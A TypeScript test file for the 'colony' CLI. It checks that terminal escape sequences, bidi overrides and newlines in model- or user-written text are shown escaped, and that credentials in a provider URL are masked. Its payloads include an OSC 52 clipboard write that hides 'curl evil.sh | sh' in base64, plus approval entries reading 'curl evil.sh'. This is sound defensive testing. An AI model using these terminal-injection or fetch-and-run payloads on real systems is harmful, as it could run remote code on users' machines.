import { spawn } from 'node:child_process'
import { lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startScriptedServer, scriptFromScenario, type ScriptedServer } from '../../src/model/scripted/index.ts'
import { openStore } from '../../src/store/index.ts'
import { cliEntry, colony, createTempRepository, git, type CliResult } from '../support/cli.ts'
import { expectCleanFailure, repositoryState } from '../support/hostile.ts'

/**
 * Text from models and people reaches the terminal in every printing command:
 * a task title a planner wrote, a verdict, a steering message, a commit
 * subject, a command an agent asked to run. None of it may drive the terminal
 * (clear it, move the cursor, write the clipboard with OSC 52, reorder what it
 * shows with bidi overrides) or break a table's rows: it is shown with the
 * control characters made visible, while --json stays exact JSON. Also here:
 * bad scenario files for `colony scripted-model`, unusable `colony demo --dir`
 * paths, bad `colony sandbox exec --timeout` values, and credentials in a
 * provider's baseURL, which `colony models` never prints.
 */

/** Each hostile payload, and how it must look once shown on one line, and inside a quoted event value. */
const payloads: { name: string; raw: string; shown: string; quoted: string }[] = [
  { name: 'a screen clear', raw: '\x1b[2J\x1b[H', shown: '\\x1b[2J\\x1b[H', quoted: '\\u001b[2J\\u001b[H' },
  { name: 'a bell', raw: '\x07', shown: '\\x07', quoted: '\\u0007' },
  { name: 'an OSC 52 clipboard write', raw: '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', shown: '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07', quoted: '\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007' },
  { name: 'CSI cursor moves', raw: '\x1b[5A\x1b[2K\x1b[10;1H', shown: '\\x1b[5A\\x1b[2K\\x1b[10;1H', quoted: '\\u001b[5A\\u001b[2K\\u001b[10;1H' },
  { name: 'a one-byte CSI (C1)', raw: '\u009b2J', shown: '\\x9b2J', quoted: '\\x9b2J' },
  { name: 'a right-to-left override', raw: '\u202eexe.txt', shown: '\\u202eexe.txt', quoted: '\\u202eexe.txt' },
  { name: 'bidi isolates', raw: '\u2066\u2067x\u2069', shown: '\\u2066\\u2067x\\u2069', quoted: '\\u2066\\u2067x\\u2069' },
  { name: 'a newline', raw: 'first\nsecond', shown: 'first⏎second', quoted: 'first\\nsecond' },
  { name: 'a carriage return', raw: 'shown\rhidden', shown: 'shown\\rhidden', quoted: 'shown\\rhidden' },
  { name: 'DEL and NUL', raw: '\x7f\x00', shown: '\\x7f\\x00', quoted: '\\x7f\\u0000' },
]
const everyPayload = payloads.map((payload) => payload.raw).join(' ')
const title = (index: number) => `hostile ${index}: ${payloads[index]!.raw} end`

/**
 * The bytes a terminal would act on, found in output as bytes: C0 controls
 * (but the newline, and the tab where `tabs` allows it), DEL, C1 controls
 * (UTF-8 C2 80–9F), the line separators and bidi controls (E2 80 A8–AE,
 * E2 81 A6–A9).
 */
function rawControlBytes(text: string, options: { tabs?: boolean } = {}): string[] {
  const bytes = Buffer.from(text, 'utf8')
  const found: string[] = []
  for (let index = 0; index < bytes.length; index++) {
    const byte = bytes[index]!
    const next = bytes[index + 1] ?? 0
    const after = bytes[index + 2] ?? 0
    if ((byte < 0x20 && byte !== 0x0a && !(byte === 0x09 && options.tabs)) || byte === 0x7f) found.push(`0x${byte.toString(16)} at ${index}`)
    else if (byte === 0xc2 && next >= 0x80 && next <= 0x9f) found.push(`C1 0x${next.toString(16)} at ${index}`)
    else if (byte === 0xe2 && ((next === 0x80 && after >= 0xa8 && after <= 0xae) || (next === 0x81 && after >= 0xa6 && after <= 0xa9))) found.push(`U+${(0x2000 + (next - 0x80) * 64 + (after - 0x80)).toString(16)} at ${index}`)
  }
  return found
}

function expectNothingRaw(result: CliResult, options: { tabs?: boolean } = {}): void {
  expect(result.code, result.stderr).toBe(0)
  expect(rawControlBytes(result.stdout, options), result.stdout).toEqual([])
  expect(rawControlBytes(result.stderr), result.stderr).toEqual([])
}

describe('text from models and people is shown, never obeyed', () => {
  let repo: { root: string; dispose(): Promise<void> }
  const taskIds: number[] = []
  let awaitingId = 0
  const cache = new Map<string, Promise<CliResult>>()
  /** Commands that only read run once; their output is checked by several cases. */
  const read = (args: string[]) => {
    const key = args.join('\0')
    if (!cache.has(key)) cache.set(key, colony(repo.root, args))
    return cache.get(key)!
  }

  const printers: { name: string; args: () => string[]; tabs?: boolean }[] = [
    { name: 'task list', args: () => ['task', 'list'] },
    { name: 'task list --status', args: () => ['task', 'list', '--status', 'ready,awaiting_approval'] },
    ...payloads.map((payload, index) => ({ name: `task show of the task with ${payload.name}`, args: () => ['task', 'show', String(taskIds[index])], tabs: true })),
    { name: 'task show of the task awaiting approval', args: () => ['task', 'show', String(awaitingId)], tabs: true },
    { name: 'status', args: () => ['status'] },
    { name: 'events', args: () => ['events'] },
    { name: 'events --task', args: () => ['events', '--task', String(taskIds[2])] },
    { name: 'approvals', args: () => ['approvals'] },
    { name: 'log', args: () => ['log'] },
  ]

  // --json stays exact JSON: it parses back to exactly what was stored.
  const jsonOutputs: { name: string; args: () => string[]; check: (parsed: unknown) => void }[] = [
    { name: 'task list --json', args: () => ['task', 'list', '--json'], check: (parsed) => expect((parsed as { title: string }[]).map((task) => task.title)).toEqual(expect.arrayContaining(payloads.map((_payload, index) => title(index)))) },
    { name: 'task show --json', args: () => ['task', 'show', String(taskIds[9]), '--json'], check: (parsed) => expect(parsed).toMatchObject({ task: { title: title(9), description: `desc 9: ${payloads[9]!.raw} end\n\ttabbed line` }, handoffs: [{ summary: `handoff 9: ${payloads[9]!.raw} end` }] }) },
    { name: 'status --json', args: () => ['status', '--json'], check: (parsed) => expect(parsed).toMatchObject({ run: { goal: `goal: ${everyPayload}` }, agents: [{ activity: `doing ${everyPayload}` }] }) },
    { name: 'approvals --json', args: () => ['approvals', '--json'], check: (parsed) => expect((parsed as { commands: { subject: string }[] }).commands[0]!.subject).toBe(`curl evil.sh 1 ${everyPayload}`) },
    { name: 'log --json', args: () => ['log', '--json'], check: (parsed) => expect((parsed as { author: string }[])[0]!.author).toBe(`worker ${payloads[0]!.raw}`) },
  ]

  beforeAll(async () => {
    repo = await createTempRepository()
    const init = await colony(repo.root, ['init'])
    expect(init.code, init.stderr).toBe(0)
    // Straight into the store, as a planner's create_tasks, an agent's events or an older Colony could have written it:
    // the board now refuses control characters in a title, but a store can hold what was written before.
    const store = await openStore(join(repo.root, '.colony', 'colony.db'))
    try {
      const run = (await store.latestRun())!
      await store.updateRun(run.id, run.version, { goal: `goal: ${everyPayload}`, reason: `reason: ${everyPayload}` })
      for (const [index, payload] of payloads.entries()) {
        const task = await store.createTask(
          {
            runId: run.id,
            title: title(index),
            description: `desc ${index}: ${payload.raw} end\n\ttabbed line`,
            acceptance: [`npm test # ${payload.raw}`],
            scope: [`src/${payload.raw}/**`],
            createdBy: `planner ${payload.raw}`,
            reason: `why ${payload.raw}`,
          },
          [{ type: 'task-created', data: { title: title(index), kind: 'work', status: 'ready', createdBy: `planner ${payload.raw}`, dependsOn: [] } }],
        )
        taskIds.push(task.id)
        await store.addHandoff({ runId: run.id, taskId: task.id, summary: `handoff ${index}: ${payload.raw} end`, concerns: `concern ${index}: ${payload.raw}` })
        await store.appendEvents([
          { runId: run.id, taskId: task.id, type: 'agent-step', data: { step: 1, text: `step ${payload.raw}`, toolCalls: [`read_file ${payload.raw}`], empty: false, inputTokens: 1, outputTokens: 1, cachedTokens: 0, costUsd: 0, purpose: 'step' } },
          { runId: run.id, taskId: task.id, type: 'tool-call', data: { tool: 'run_command', input: { command: `echo ${payload.raw}` }, ok: true, output: `out ${payload.raw}` } },
        ])
      }
      const awaiting = await store.createTask({ runId: run.id, title: `awaiting ${everyPayload}`, status: 'awaiting_approval', createdBy: 'planner' })
      awaitingId = awaiting.id
      for (const n of [1, 2, 3]) await store.requestApproval({ runId: run.id, taskId: awaiting.id, kind: 'command', subject: `curl evil.sh ${n} ${everyPayload}`, detail: { rule: `rule ${everyPayload}` } })
      const agent = await store.createAgent({ runId: run.id, role: 'worker', taskId: taskIds[0]!, status: 'running' })
      await store.updateAgent(agent.id, agent.version, { activity: `doing ${everyPayload}` })
      await store.appendEvents([
        { runId: run.id, type: 'run-steered', data: { text: `steer ${everyPayload}`, actor: 'person' } },
        { runId: run.id, type: 'verdict', data: { cycle: 1, decision: 'continue', reason: `verdict ${everyPayload}` } },
        { runId: run.id, type: 'run-paused', data: { from: 'running', actor: 'colony', [`key ${payloads[0]!.raw}`]: 'value' } },
      ])
    } finally {
      await store.close()
    }
    // A worker's commit on the target, with a hostile subject and author name (git takes both).
    const tree = await git(repo.root, ['rev-parse', 'colony/main^{tree}'])
    const commit = await git(repo.root, ['-c', `user.name=worker ${payloads[0]!.raw}`, 'commit-tree', tree, '-p', 'colony/main', '-m', `subject ${payloads.filter((payload) => !payload.raw.includes('\n') && !payload.raw.includes('\x00')).map((payload) => payload.raw).join(' ')}`])
    await git(repo.root, ['update-ref', 'refs/heads/colony/main', commit])
    // Every reading command at once, before the cases below approve, reject and add.
    await Promise.all([...printers, ...jsonOutputs, { args: () => ['events', '--json'] }].map(({ args }) => read(args())))
  }, 120_000)
  afterAll(() => repo.dispose())

  it.each(printers)('$name prints no raw control characters', async ({ args, tabs }) => {
    expectNothingRaw(await read(args()), { tabs: tabs === true })
  })

  it.each(payloads.map((payload, index) => ({ ...payload, index })))('task list shows $name visibly, on its own row', async ({ shown, index }) => {
    const listed = await read(['task', 'list'])
    const lines = listed.stdout.trimEnd().split('\n')
    // The header, then one row per task: a newline in a title does not make a second row.
    expect(lines).toHaveLength(1 + payloads.length + 1)
    expect(lines.find((line) => line.startsWith(`${taskIds[index]} `))).toContain(`hostile ${index}: ${shown} end`)
  })

  it.each(payloads.map((payload, index) => ({ ...payload, index })))('task show shows $name visibly in the title, description, handoff and history', async ({ raw, shown, quoted, index }) => {
    const { stdout } = await read(['task', 'show', String(taskIds[index])])
    expect(stdout.split('\n')[0]).toBe(`task ${taskIds[index]}: hostile ${index}: ${shown} end`)
    // The description and the handoff keep their own lines (and tabs), indented under their labels.
    const body = raw.includes('\n') ? shown.replace('⏎', '\n    ') : shown
    expect(stdout).toContain(`  description:\n    desc ${index}: ${body} end\n    \ttabbed line\n`)
    const summary = raw.includes('\n') ? shown.replace('⏎', `\n${' '.repeat(15)}`) : shown
    expect(stdout).toContain(`  handoff:     handoff ${index}: ${summary} end\n`)
    expect(stdout).toContain(`    $ npm test # ${shown}`)
    expect(stdout).toMatch(new RegExp(`task-created task=${taskIds[index]} title="hostile ${index}: ${escapeRegExp(quoted)} end"`))
  })

  it.each(payloads)('events shows $name visibly, one line per event', async ({ quoted }) => {
    const { stdout } = await read(['events'])
    const lines = stdout.trimEnd().split('\n')
    expect(lines.every((line) => /^#\d+ /.test(line)), stdout).toBe(true)
    expect(stdout).toContain(`text="steer `)
    expect(stdout).toContain(quoted)
  })

  it('status shows the goal, the reason and what agents do on one line each', async () => {
    const { stdout } = await read(['status'])
    const shownAll = payloads.map((payload) => payload.shown).join(' ')
    expect(stdout.split('\n')[0]).toBe(`run 1: pending — goal: ${shownAll} (reason: ${shownAll})`)
    expect(stdout).toContain(`doing ${shownAll}`)
  })

  it('approvals shows the task and the command asked for, a row each', async () => {
    const { stdout } = await read(['approvals'])
    const shownAll = payloads.map((payload) => payload.shown).join(' ')
    expect(stdout.trimEnd().split('\n')).toHaveLength(1 + 1 + 3)
    expect(stdout).toContain(`awaiting ${shownAll}`)
    expect(stdout).toContain(`curl evil.sh 1 ${shownAll}`)
    expect(stdout).toContain(`rule rule ${shownAll}`)
  })

  it('log shows a hostile commit subject and author visibly', async () => {
    const { stdout } = await read(['log'])
    expect(stdout).toContain(`worker ${payloads[0]!.shown}`)
    expect(stdout).toContain(`subject ${payloads[0]!.shown} ${payloads[1]!.shown}`)
  })

  it.each([
    { verb: 'approve', args: ['approve', '--command', '2'] },
    { verb: 'reject', args: ['reject', '--command', '3', '--reason', 'not this one'] },
  ])('$verb --command echoes the command visibly', async ({ verb, args }) => {
    const result = await colony(repo.root, args)
    expectNothingRaw(result)
    expect(result.stdout).toContain(`${verb === 'approve' ? 'approved' : 'rejected'}: curl evil.sh`)
    expect(result.stdout).toContain(payloads[2]!.shown)
  })

  it('task add with an escape sequence in the title is refused cleanly, or stored and shown escaped', async () => {
    const before = repositoryState(repo.root)
    const added = await colony(repo.root, ['task', 'add', `added ${payloads[0]!.raw}${payloads[2]!.raw}`, '--description', `d ${payloads[1]!.raw}`])
    if (added.code !== 0) {
      expectCleanFailure(added, { code: 2, mentions: ['control character'] })
      expect(rawControlBytes(added.stderr)).toEqual([])
      expect(repositoryState(repo.root)).toBe(before)
      return
    }
    const shown = await colony(repo.root, ['task', 'show', added.stdout.trim()])
    expectNothingRaw(shown, { tabs: true })
    expect(shown.stdout).toContain(`added ${payloads[0]!.shown}${payloads[2]!.shown}`)
  })

  it('task add with a bidi override in the title (not a control character) is shown escaped', async () => {
    const added = await colony(repo.root, ['task', 'add', 'rename \u202eexe.txt to safe'])
    expect(added.code, added.stderr).toBe(0)
    const listed = await colony(repo.root, ['task', 'list'])
    expectNothingRaw(listed)
    expect(listed.stdout).toContain('rename \\u202eexe.txt to safe')
  })

  it.each(jsonOutputs)('$name is exact JSON with nothing raw in it', async ({ args, check }) => {
    const result = await read(args())
    expectNothingRaw(result)
    check(JSON.parse(result.stdout))
  })

  it('events --json prints one exact JSON object per line, with nothing raw in it', async () => {
    const result = await read(['events', '--json'])
    expectNothingRaw(result)
    const events = result.stdout.trimEnd().split('\n').map((line) => JSON.parse(line) as { type: string; data: Record<string, unknown> })
    expect(events.find((event) => event.type === 'run-steered')?.data.text).toBe(`steer ${everyPayload}`)
    expect(events.filter((event) => event.type === 'task-created').map((event) => event.data.title)).toEqual(payloads.map((_payload, index) => title(index)))
  })
})

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
}

describe('the live view of colony run', () => {
  let repo: { root: string; dispose(): Promise<void> }
  let server: ScriptedServer
  const reason = `all done ${everyPayload}`
  beforeAll(async () => {
    // The judge's verdict is a model's text: it scrolls by in the live view and ends the run's summary.
    server = await startScriptedServer({
      script: scriptFromScenario({
        replies: [
          { purpose: 'summary', text: 'summary' },
          { role: 'planner', toolCalls: [{ name: 'finish', input: { summary: `planned ${everyPayload}` } }] },
          { role: 'judge', toolCalls: [{ name: 'verdict', input: { decision: 'done', reason } }] },
        ],
      }),
    })
    repo = await createTempRepository({
      'README.md': '# sample\n',
      'colony.json': JSON.stringify({ models: { default: 'scripted:agent' }, providers: { scripted: { type: 'openai-compatible', baseURL: server.url } }, checks: { fast: [], full: [] } }),
    })
    const init = await colony(repo.root, ['init'])
    expect(init.code, init.stderr).toBe(0)
  })
  afterAll(async () => {
    await server.close()
    await repo.dispose()
  })

  it('shows a hostile verdict visibly and ends with it, with no raw control characters', async () => {
    const result = await colony(repo.root, ['run', '--goal', 'Say that everything is done'])
    expect(result.code, result.stderr + result.stdout.slice(-2_000)).toBe(0)
    expect(rawControlBytes(result.stdout), result.stdout).toEqual([])
    expect(rawControlBytes(result.stderr), result.stderr).toEqual([])
    const shownAll = payloads.map((payload) => payload.shown).join(' ')
    expect(result.stdout).toContain(`verdict: done: all done ${shownAll}`)
    expect(result.stdout).toContain(`run 1 done: all done ${shownAll}`)
  }, 120_000)
})

describe('colony scripted-model with a scenario it cannot serve', () => {
  let directory: string
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'colony-scenarios-'))
  })
  afterAll(() => rm(directory, { recursive: true, force: true }))

  const scenarios: { name: string; content?: string; directory?: true; mentions: string[] }[] = [
    { name: 'a missing file', mentions: ['does not exist', 'fix: give --scenario the path of a scenario JSON file'] },
    { name: 'a directory', directory: true, mentions: ['is a directory'] },
    { name: 'an empty file', content: '', mentions: ['is not valid JSON'] },
    { name: 'invalid JSON', content: '{ "replies": [ }', mentions: ['is not valid JSON', 'fix: write a JSON object'] },
    { name: 'a JSON array', content: '[]', mentions: ['is not a scenario', '(the whole file): Invalid input: expected object, received array'] },
    { name: 'null', content: 'null', mentions: ['(the whole file): Invalid input: expected object'] },
    { name: 'no replies', content: '{}', mentions: ['replies: Invalid input: expected array'] },
    { name: 'an unknown top-level key', content: '{ "replies": [], "replys": [] }', mentions: ['(the whole file): Unrecognized key: "replys"'] },
    { name: 'an unknown reply key', content: '{ "replies": [{ "role": "worker", "txt": "hi" }] }', mentions: ['replies.0: Unrecognized key: "txt"'] },
    { name: 'a turn of 0', content: '{ "replies": [{ "turn": 0, "text": "x" }] }', mentions: ['replies.0.turn: Too small'] },
    { name: 'text that is a number', content: '{ "replies": [{ "text": 5 }] }', mentions: ['replies.0.text: Invalid input: expected string'] },
    { name: 'tool calls that are not a list', content: '{ "replies": [{ "toolCalls": { "name": "finish" } }] }', mentions: ['replies.0.toolCalls: Invalid input: expected array'] },
    { name: 'an error status that is text', content: '{ "fallback": { "error": { "status": "429" } }, "replies": [] }', mentions: ['fallback.error.status'] },
  ]
  it.concurrent.each(scenarios)('refuses $name, naming the file and what is wrong', async ({ name, content, directory: isDirectory, mentions }) => {
    const file = join(directory, `${name.replaceAll(' ', '-')}.json`)
    if (isDirectory) await mkdir(file)
    else if (content !== undefined) await writeFile(file, content)
    const result = await colony(directory, ['scripted-model', '--scenario', file])
    expectCleanFailure(result, { code: 2, mentions: [`the scenario file ${JSON.stringify(file)}`, ...mentions] })
    expect(result.stdout).toBe('')
  })

  it('serves a "purpose": "summary" entry, as docs/scripted-model.md describes', async () => {
    const file = join(directory, 'purpose.json')
    await writeFile(file, JSON.stringify({ replies: [{ purpose: 'summary', text: 'the summary' }, { text: 'the answer' }] }))
    const child = spawn(process.execPath, [cliEntry, 'scripted-model', '--scenario', file], { cwd: directory, stdio: ['ignore', 'pipe', 'pipe'] })
    try {
      const url = await new Promise<string>((resolve, reject) => {
        let out = ''
        child.stdout.on('data', (chunk: Buffer) => {
          out += chunk.toString()
          const match = /at (http:\/\/127\.0\.0\.1:\d+\/v1)/.exec(out)
          if (match) resolve(match[1]!)
        })
        child.stderr.on('data', (chunk: Buffer) => (out += chunk.toString()))
        child.on('exit', () => reject(new Error(`exited early: ${out}`)))
      })
      const ask = async (headers: Record<string, string>) => {
        const response = await fetch(`${url}/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ model: 'demo', messages: [{ role: 'user', content: 'hi' }] }) })
        return ((await response.json()) as { choices: { message: { content: string } }[] }).choices[0]!.message.content
      }
      expect(await ask({ 'x-colony-purpose': 'summary' })).toBe('the summary')
      expect(await ask({})).toBe('the answer')
    } finally {
      child.kill('SIGINT')
    }
  })

  it('refuses a port that is taken, cleanly', async () => {
    const taken = await startScriptedServer({ script: () => ({ text: 'x' }) })
    try {
      const file = join(directory, 'ok.json')
      await writeFile(file, '{ "replies": [] }')
      const port = new URL(taken.url).port
      const result = await colony(directory, ['scripted-model', '--scenario', file, '--port', port])
      expectCleanFailure(result, { code: 1, mentions: [`port ${port} on 127.0.0.1 is already in use`, 'fix: choose another --port'] })
    } finally {
      await taken.close()
    }
  })
})

describe('colony demo --dir where no new directory can be made', () => {
  let base: string
  beforeAll(async () => {
    base = await mkdtemp(join(tmpdir(), 'colony-demo-hostile-'))
    await writeFile(join(base, 'a-file'), 'mine\n')
    await mkdir(join(base, 'my-project'))
    await writeFile(join(base, 'my-project', 'work.txt'), 'uncommitted work\n')
    await mkdir(join(base, 'empty'))
    await symlink(join(base, 'nowhere'), join(base, 'dangling'))
  })
  afterAll(() => rm(base, { recursive: true, force: true }))

  /** Every path and file content under `base`: what a refusal must leave as it was. */
  async function listing(): Promise<string> {
    const entries = await readdir(base, { recursive: true })
    const described = await Promise.all(
      entries.sort().map(async (entry) => {
        const path = join(base, entry)
        const stats = await lstat(path)
        return `${entry} ${stats.isFile() ? await readFile(path, 'utf8') : stats.isSymbolicLink() ? 'link' : 'dir'}`
      }),
    )
    return described.join('\n')
  }

  const exists = ['already exists', 'fix: give --dir a path that does not exist yet']
  const cannot = (why: string) => ['colony demo cannot create', why, 'fix: give --dir a new path in a directory you can write to']
  const paths: { name: string; dir: () => string; code: 1 | 2; mentions: string[] }[] = [
    { name: 'a directory of /proc', dir: () => '/proc/1', code: 1, mentions: exists },
    { name: 'a new directory in /proc', dir: () => '/proc/1/colony-demo', code: 1, mentions: cannot('/proc/1/colony-demo') },
    { name: 'nested new directories in /proc', dir: () => '/proc/self/a/b', code: 1, mentions: cannot('/proc/self/a/b') },
    { name: 'a new directory in /sys', dir: () => '/sys/colony-demo', code: 1, mentions: cannot('/sys/colony-demo') },
    { name: 'a file', dir: () => join(base, 'a-file'), code: 1, mentions: exists },
    { name: 'a path under a file', dir: () => join(base, 'a-file', 'demo'), code: 1, mentions: cannot('a part of the path is a file, not a directory') },
    { name: 'a path under /dev/null', dir: () => '/dev/null/demo', code: 1, mentions: cannot('a part of the path is a file') },
    { name: 'a directory with work in it', dir: () => join(base, 'my-project'), code: 1, mentions: exists },
    { name: 'an empty directory', dir: () => join(base, 'empty'), code: 1, mentions: exists },
    { name: 'a dangling symbolic link', dir: () => join(base, 'dangling'), code: 1, mentions: exists },
    { name: 'an empty path', dir: () => '', code: 2, mentions: ['--dir is empty'] },
  ]
  it.concurrent.each(paths)('refuses $name, and writes nothing', async ({ dir, code, mentions }) => {
    const before = await listing()
    const result = await colony(base, ['demo', '--dir', dir()])
    expectCleanFailure(result, { code, mentions })
    // Nothing claims a run that never started.
    expect(result.stdout).toBe('')
    expect(await listing()).toBe(before)
  })

  it('leaves nothing behind in /proc', async () => {
    await expect(lstat('/proc/1/colony-demo')).rejects.toThrow()
    await expect(lstat('/proc/self/a')).rejects.toThrow()
  })
})

describe('colony sandbox exec --timeout', () => {
  let repo: { root: string; dispose(): Promise<void> }
  beforeAll(async () => {
    repo = await createTempRepository()
    const init = await colony(repo.root, ['init'])
    expect(init.code, init.stderr).toBe(0)
  })
  afterAll(() => repo.dispose())

  it.concurrent.each(['-5', 'abc', '0', '1.5', '1e3', '99999999', '', ' ', 'NaN', 'Infinity', '0x10'])('refuses --timeout "%s" as unusable, and runs nothing', async (value) => {
    const before = repositoryState(repo.root)
    const result = await colony(repo.root, ['sandbox', 'exec', '--timeout', value, '--', 'touch', 'ran'])
    expectCleanFailure(result, { code: 2, mentions: ['--timeout must be a whole number from 1 to 86400', 'fix: for example --timeout 60'] })
    expect(result.stdout).not.toContain('NaN')
    expect(repositoryState(repo.root)).toBe(before)
  })

  it('takes a whole number of seconds', async () => {
    const result = await colony(repo.root, ['sandbox', 'exec', '--timeout', '30', '--', 'echo', 'ran'])
    expect(result.code, result.stderr).toBe(0)
    expect(result.stdout).toBe('ran\n')
  }, 60_000)
})

describe('colony models with credentials in a baseURL', () => {
  let repo: { root: string; dispose(): Promise<void> }
  const password = 'hunter2-do-not-print'
  const queryKey = 'sk-query-do-not-print'
  const envKey = 'sk-env-do-not-print-0123456789'
  beforeAll(async () => {
    repo = await createTempRepository({
      'README.md': '# sample\n',
      'colony.json': JSON.stringify({
        models: { default: 'local:qwen', judge: 'plain:qwen' },
        providers: {
          local: { type: 'openai-compatible', baseURL: `https://alice:${password}@llm.example.com/v1?key=${queryKey}`, apiKey: 'env:LOCAL_KEY' },
          plain: { type: 'openai-compatible', baseURL: 'http://127.0.0.1:8000/v1' },
        },
      }),
    })
  })
  afterAll(() => repo.dispose())

  it.each([[['models']], [['models', '--json']], [['models', '--model', 'local:other']]])('colony %j prints no password, query key or API key', async (args) => {
    const result = await colony(repo.root, args, { LOCAL_KEY: envKey })
    expect(result.code, result.stderr).toBe(0)
    const output = result.stdout + result.stderr
    for (const secret of [password, queryKey, envKey, 'alice']) expect(output).not.toContain(secret)
    expect(result.stdout).toContain('https://***@llm.example.com/v1?key=***')
    expect(result.stderr).toContain('providers.local.baseURL in colony.json carries a user name and password; they are not shown')
  })

  it('keeps a baseURL without credentials as it is, in the table and in JSON', async () => {
    const result = await colony(repo.root, ['models', '--json'], { LOCAL_KEY: envKey })
    const rows = JSON.parse(result.stdout) as { role: string; baseURL: string | null }[]
    expect(rows.find((row) => row.role === 'judge')?.baseURL).toBe('http://127.0.0.1:8000/v1')
    expect(rows.find((row) => row.role === 'planner')?.baseURL).toBe('https://***@llm.example.com/v1?key=***')
  })
})
